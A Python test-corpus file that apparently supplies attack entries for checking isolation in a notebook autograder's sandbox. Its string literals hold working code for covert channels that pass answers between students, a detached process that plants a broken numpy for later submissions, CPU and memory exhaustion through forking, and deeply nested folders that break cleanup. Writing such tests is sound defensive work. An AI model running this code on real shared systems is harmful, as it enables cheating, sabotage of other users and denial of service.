# ruff: noqa: E501 - attack code in string literals keeps its own line lengths
"""Corpus entries against isolation between students (docs/sandbox.md): what a kernel leaves
behind for the students graded after it, and what it takes from the machine.

The batch grades students in the order nbgrader finds them, which is not fixed; so the
channel attack is handed in twice: whichever copy runs second looks for what the first left
(a correct ``softmax``) in every channel that could outlive a kernel, and would earn the
``softmax`` points with it. With isolation neither finds anything. The survivor keeps running
for as long as it can and plants a broken ``numpy`` wherever a later kernel imports from:
every submission graded after it would lose its points.
"""

from __future__ import annotations

from tests.corpus.entries import Entry, attack, partly_wrong_points, wrong_ids

#: Reads a correct softmax from every channel a previous kernel may have left, defines it
#: if found, then leaves its own in all of them.
CHANNELS = r"""
import ctypes as _c, os as _os
_libc = _c.CDLL(None, use_errno=True)
_libc.syscall.restype = _c.c_long
_libc.shmat.restype = _c.c_void_p
_SRC = b"def softmax(x):\n    e = np.exp(x - x.max(axis=1, keepdims=True))\n    return e / e.sum(axis=1, keepdims=True)\n"
_found = []
# System V shared memory
_shm = _libc.shmget(0x50F7, 4096, 0o1666)
if _shm >= 0:
    _addr = _libc.shmat(_shm, None, 0)
    if _addr not in (None, _c.c_void_p(-1).value):
        _data = _c.string_at(_addr, 4096).split(b"\0", 1)[0]
        if _data.startswith(b"def softmax"):
            _found.append(_data)
        _c.memmove(_addr, _SRC + b"\0", len(_SRC) + 1)
# POSIX message queue
try:
    _rt = _c.CDLL("librt.so.1", use_errno=True)
    _mq = _rt.mq_open(b"/dlgrade-channel", _os.O_CREAT | _os.O_RDWR | _os.O_NONBLOCK, 0o666, None)
    if _mq >= 0:
        _buf = _c.create_string_buffer(8192)
        _n = _rt.mq_receive(_mq, _buf, 8192, None)
        if _n > 0:
            _found.append(_buf.raw[:_n])
        _rt.mq_send(_mq, _SRC, len(_SRC), 0)
except OSError:
    pass
# keyrings: the session one (inherited from the grader) and the uid's
for _ring in (-3, -4):
    _key = _libc.syscall(249, b"user", b"dlgrade-channel", None, _ring)  # request_key
    if _key > 0:
        _buf = _c.create_string_buffer(4096)
        _n = _libc.syscall(250, 11, _key, _buf, 4096)  # KEYCTL_READ
        if _n > 0:
            _found.append(_buf.raw[:_n])
    _libc.syscall(248, b"user", b"dlgrade-channel", _SRC, len(_SRC), _ring)  # add_key
# files in the shared scratch folders
for _f in ("/tmp/dlgrade-channel.py", "/dev/shm/dlgrade-channel.py"):
    try:
        _found.append(open(_f, "rb").read())
    except OSError:
        pass
    try:
        open(_f, "wb").write(_SRC)
    except OSError:
        pass
for _src in _found:
    if _src.startswith(b"def softmax"):
        exec(_src.decode())
        break
"""

#: A process whose thread-group leader exits on its own (a zombie to /proc readers) while
#: its other thread plants a broken numpy in every folder a later kernel imports from.
SURVIVOR = r"""
import ctypes as _c, os as _os, threading as _t, time as _time
if _os.fork() == 0:
    _os.setsid()
    _libc = _c.CDLL(None, use_errno=True)
    def _plant():
        _here = _os.getcwd()
        _end = _time.monotonic() + 600
        while _time.monotonic() < _end:
            for _d in (_here, "/tmp"):
                try:
                    with open(_os.path.join(_d, "numpy.py"), "w") as _f:
                        _f.write("raise ImportError('sabotaged by an earlier student')\n")
                except OSError:
                    pass
            _time.sleep(0.005)
    _t.Thread(target=_plant, daemon=True).start()
    _time.sleep(0.1)
    _libc.syscall(60, 0)  # SYS_exit: the leader only; the thread runs on
_time.sleep(0.3)
"""

#: Many busy processes, each in a session of its own, and the notebook kept alive.
CPU_HOG = r"""
import os as _os, time as _time
for _ in range(24):
    if _os.fork() == 0:
        _os.setsid()
        while True:
            pass
_time.sleep(2)
"""

#: Processes that each stay under the per-process memory limit, and together go past the
#: kernel's (the corpus gives a kernel 4096 MiB).
MANY_MEDIUM = r"""
import os as _os, time as _time
_kids = []
for _ in range(8):
    _pid = _os.fork()
    if _pid == 0:
        try:
            _b = bytearray(700 * 1024 * 1024)
            for _i in range(0, len(_b), 4096):
                _b[_i] = 1
            _time.sleep(1)
        finally:
            _os._exit(0)
    _kids.append(_pid)
for _pid in _kids:
    _os.waitpid(_pid, 0)
"""

#: Trees of folders 3000 deep (paths longer than a path may be) wherever the kernel can
#: write: removing them recursively stops at Python's recursion limit, and took the warm
#: fork server, and the next student's kernel, with it.
DEEP_TREES = r"""
import os as _os
for _top in ("/tmp", "/dev/shm", ".", _os.path.expanduser("~")):
    try:
        _fd = _os.open(_top, _os.O_RDONLY | _os.O_DIRECTORY)
        for _ in range(3000):
            _os.mkdir("q", dir_fd=_fd)
            _in = _os.open("q", _os.O_RDONLY | _os.O_DIRECTORY, dir_fd=_fd)
            _os.close(_fd)
            _fd = _in
        _os.close(_fd)
    except OSError:
        pass
"""

_PW = partly_wrong_points
_HCF = ("HiddenCheckFailed",)

ENTRIES: list[Entry] = [
    *(
        Entry(
            f"atk_channels_{n}",
            "leave a correct answer in SysV shm, a POSIX queue, keyrings and /tmp for a later kernel, read one left by an earlier one",
            "attack",
            attack(CHANNELS, cell="softmax_code"),
            _PW,
            wrong_ids,
            _HCF,
        )
        for n in (1, 2)
    ),
    Entry(
        "atk_deep_trees",
        "folders nested 3000 deep in /tmp, /dev/shm, the working folder and home",
        "attack",
        attack(DEEP_TREES),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_zombie_survivor",
        "a process whose leader exits alone keeps planting a broken numpy for later students",
        "attack",
        attack(SURVIVOR),
        _PW,
        wrong_ids,
        _HCF,
        dangerous=True,
    ),
    Entry(
        "atk_cpu_hog",
        "two dozen busy processes, each in its own session",
        "attack",
        attack(CPU_HOG),
        _PW,
        wrong_ids,
        _HCF,
        dangerous=True,
    ),
    Entry(
        "atk_many_medium_processes",
        "eight processes of 700 MiB each: within the per-process limit, past the kernel's",
        "attack",
        attack(MANY_MEDIUM),
        _PW,
        wrong_ids,
        _HCF,
        dangerous=True,
    ),
]
